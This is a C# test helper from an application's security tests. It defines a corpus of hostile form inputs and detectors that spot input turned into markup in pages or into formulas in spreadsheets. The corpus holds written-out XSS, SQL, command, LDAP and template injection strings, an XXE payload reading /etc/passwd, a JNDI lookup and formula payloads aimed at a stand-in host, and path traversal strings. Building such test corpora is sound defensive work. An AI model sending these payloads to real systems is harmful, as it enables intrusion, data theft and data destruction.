using System.Text.RegularExpressions;
using AngleSharp.Html.Dom;
using AngleSharp.Html.Parser;

namespace Zielwerk.App.Tests.Sicherheit;

/// <summary>Hostile, strange and broken input; what a field of a form is fed. Our own list.</summary>
public static partial class Korpus
{
    /// <summary>An element of this name in a page, or an attribute beginning with it, means that input became markup.</summary>
    public const string Marke = "zwkorpus";

    public static IReadOnlyList<string> Eingaben { get; } =
    [
        // markup, attributes, comments, scripts
        "<zwkorpus>", "<script>zwkorpus()</script>", "\"><zwkorpus x=\"", "'><zwkorpus x='", "\" zwkorpus=\"1", "' zwkorpus='1", "` zwkorpus=`1",
        "\" onfocus=\"alert(1)\" autofocus=\"", "<img src=x onerror=alert(1)>", "<svg/onload=alert(1)>", "<iframe srcdoc='<zwkorpus>'></iframe>", "</textarea><zwkorpus>",
        "</title><zwkorpus>", "</script><zwkorpus>", "--><zwkorpus><!--", "]]><zwkorpus><![CDATA[", "&lt;zwkorpus&gt;", "&#60;zwkorpus&#62;", "<zwkorpus/a=\u0001>", "<<zwkorpus>>",
        "<a href=\"javascript:alert(1)\">x</a>", "javascript:alert(1)", "data:text/html,<zwkorpus>", "//boese.example/x", "https://boese.example/?a=\"onclick=\"alert(1)",
        "<style>*{background:url(//boese.example)}</style>", "<base href=//boese.example/>", "<meta http-equiv=refresh content='0;url=//boese.example'>", "<form action=//boese.example><zwkorpus>",

        // SQL, LDAP, templates, shells, XML, JSON
        "' OR '1'='1", "'; DROP TABLE zielvereinbarung; --", "\"; SELECT pg_sleep(5); --", "1) UNION SELECT NULL,NULL--", "%' OR 1=1 /*", "\\'; --", "_%_%_%",
        "*)(uid=*))(|(uid=*", "{{7*7}}", "${7*7}", "#{7*7}", "<%= 7*7 %>", "@(7*7)", "{0}{1}{2}", "%s%n%x", "$(id)", "`id`", "; cat /etc/passwd", "| whoami", "&& dir",
        "<?xml version=\"1.0\"?><!DOCTYPE a [<!ENTITY x SYSTEM \"file:///etc/passwd\">]><a>&x;</a>", "{\"a\":{\"$gt\":\"\"}}", "\"}],\"x\":1,{\"", "__proto__[x]=1", "${jndi:ldap://boese.example/a}",

        // tables, calendars, mails, headers, logs
        "=1+1", "+1+1", "-1+1", "@SUM(A1)", "\t=1+1", "=cmd|' /C calc'!A0", "=HYPERLINK(\"https://boese.example\",\"x\")", "a;b;c", "a\",\"=1+1", "\r\n=1+1",
        "Termin\r\nEND:VEVENT\r\nBEGIN:VEVENT\r\nSUMMARY:zwkorpus", "a\r\nBcc: zwkorpus@boese.example\r\n\r\nText", "a\nSet-Cookie: zwkorpus=1", "a\r\n{\"LogLevel\":\"Critical\",\"Message\":\"zwkorpus\"}",

        // characters
        "a\u0000b", "\u0000", "a\u0008\u001b[31mb", "\u202Egpj.exe", "a\u2066b\u2069c", "a\u200B\u200Cb\uFEFF", "e\u0301\u0301\u0301\u0301", "\uD83D\uDE00\uD83D\uDC68\u200D\uD83D\uDC69\u200D\uD83D\uDC67", "ﬁ ﷽ Ω ﬀ",
        "a\uFFFDb\uFFFF", "İı ẞß", "\u2028\u2029", "\u0085", "  ", "\u00A0", "a\u0300".PadRight(190, '\u0300'), "𝕫𝔦𝔢𝔩",

        // paths, sizes, numbers
        "../../../../etc/passwd", "..\\..\\windows\\win.ini", "/etc/passwd\u0000.pdf", "C:\\con\\aux", "%2e%2e%2f", "%c0%af%e0%80%af", "%00", "file:///etc/passwd",
        new('a', 200), new('ä', 4000), new('x', 100_000), "NaN", "-1", "9999999999999999999999", "1e309", "0x1F", "31.02.2026", "null", "undefined", "true", "[]",
    ];

    /// <summary>Bytes that are no valid UTF-8, as a form would carry them: overlong forms, halves of pairs, ends cut off.</summary>
    public static IReadOnlyList<string> KaputteBytes { get; } = ["%C0%AF", "%E0%80%AF", "%ED%A0%80", "%F0%9F%98", "%FF%FE", "%C3", "%80%80", "%00%C3%28"];

    /// <summary>Sendings that a narrow field may accept; what does not fit into them it gets in one that it refuses.</summary>
    private const int JeFeld = 12;

    /// <summary>For fields that take no text: everything side by side, and what no database takes.</summary>
    public static IReadOnlyList<string> Brocken { get; } =
        [string.Join(' ', Eingaben.Where(e => e.Length < 200 && !e.Contains('\0', StringComparison.Ordinal))), "\u0085\u202E ", "a\u0000b", "9999999999999999999999", "-1"];

    /// <summary>
    /// The corpus for one field in few sendings: as many texts side by side as fit, those alone that work only at the beginning, everything that is too
    /// long or holds control characters in sendings that must be refused, and letters that grow when a program folds or sorts them. Markup comes last: what
    /// was accepted last is what pages show in the end.
    /// </summary>
    /// <param name="hoechstens">Most characters the field takes.</param>
    /// <param name="ende">A word to find the text by, put behind each that may be accepted.</param>
    public static IReadOnlyList<string> Gruppen(int hoechstens, string ende)
    {
        var platz = hoechstens - ende.Length - 1;
        var gesteuert = Eingaben.Where(e => e.Any(z => z < ' ' && z is not ('\r' or '\n' or '\t'))).ToList();
        var anfaenge = Eingaben.Except(gesteuert).Where(e => "=+-@\t\r\n".Contains(e[0], StringComparison.Ordinal) && e.Length <= platz).ToList();
        var formeln = anfaenge.GroupBy(e => char.IsControl(e[0]) ? '\t' : e[0]).Select(g => g.Aggregate((a, b) => a.Length + b.Length < platz ? $"{a} {b}" : a));
        var uebrige = Eingaben.Except(gesteuert).Except(anfaenge).Where(e => e.Length < 20_000).ToLookup(e => e.Length <= platz);
        var gepackt = new List<string>();
        foreach (var eingabe in uebrige[true])
        {
            if (gepackt is [.., var letzte] && letzte.Length + 1 + eingabe.Length <= platz)
            {
                gepackt[^1] = $"{letzte} {eingabe}";
            }
            else
            {
                gepackt.Add(eingabe);
            }
        }

        return
        [
            string.Join(' ', gesteuert.Where(g => g.Contains('\0', StringComparison.Ordinal))), string.Join(' ', gesteuert.Where(g => !g.Contains('\0', StringComparison.Ordinal))),
            string.Join(' ', uebrige[false]), string.Join(' ', gepackt.Skip(JeFeld)),
            new('ß', hoechstens), new('\uFDFA', hoechstens), string.Concat(Enumerable.Repeat("\uD83D\uDE00", hoechstens / 2)),
            .. formeln.Concat(Enumerable.Reverse(gepackt.Take(JeFeld))).Select(g => $"{g} {ende}"),
        ];
    }

    /// <summary>What in this page shows that input became more than text: our mark as element or attribute, handlers, foreign or scripted addresses.</summary>
    public static IEnumerable<string> Fremde(string html) => Fremde(new HtmlParser().ParseDocument(html), html);

    /// <inheritdoc cref="Fremde(string)"/>
    public static IEnumerable<string> Fremde(IHtmlDocument seite, string html)
    {
        foreach (var element in seite.All)
        {
            if (element.LocalName.StartsWith(Marke, StringComparison.Ordinal) || element.LocalName is "base" or "iframe" or "object" or "embed")
            {
                yield return $"Element {element.LocalName}";
            }

            foreach (var merkmal in element.Attributes)
            {
                if (merkmal.Name.StartsWith(Marke, StringComparison.Ordinal) || merkmal.Name.StartsWith("on", StringComparison.Ordinal) || merkmal.Name == "style"
                    || (merkmal.Name is "href" or "src" or "action" or "formaction" && Gefaehrlich().IsMatch(merkmal.Value)))
                {
                    yield return $"{element.LocalName} {merkmal.Name}={merkmal.Value}";
                }
            }

            if (element is { LocalName: "script" } && element.GetAttribute("src") is null)
            {
                yield return "Skript im Text";
            }
        }

        if (html.Contains('\u0000', StringComparison.Ordinal))
        {
            yield return "Nullzeichen";
        }
    }

    /// <summary>Cells of a table that a spreadsheet would take for a formula.</summary>
    public static IEnumerable<string> Formeln(string csv) =>
        Zelle().Matches(csv.TrimStart('\uFEFF')).Select(m => m.Groups[1].Success ? m.Groups[1].Value : m.Groups[2].Value)
            .Where(z => z.Length > 0 && "=+-@\t\r\0".Contains(z[0], StringComparison.Ordinal) && !Zahl().IsMatch(z));

    [GeneratedRegex(@"^[\s\x00-\x1f]*(?:(?:javascript|vbscript|data(?!:image/)):|(?:https?:)?[\s/\\]*[/\\][\s/\\]*[^/?#]*boese\.example)", RegexOptions.IgnoreCase)]
    private static partial Regex Gefaehrlich();

    [GeneratedRegex("(?<=^|[;,\n])(?:\"((?:[^\"]|\"\")*)\"|([^;,\r\n\"]*))(?=$|[;,\r\n])")]
    private static partial Regex Zelle();

    [GeneratedRegex(@"^-?[\d.,]+$")]
    private static partial Regex Zahl();
}
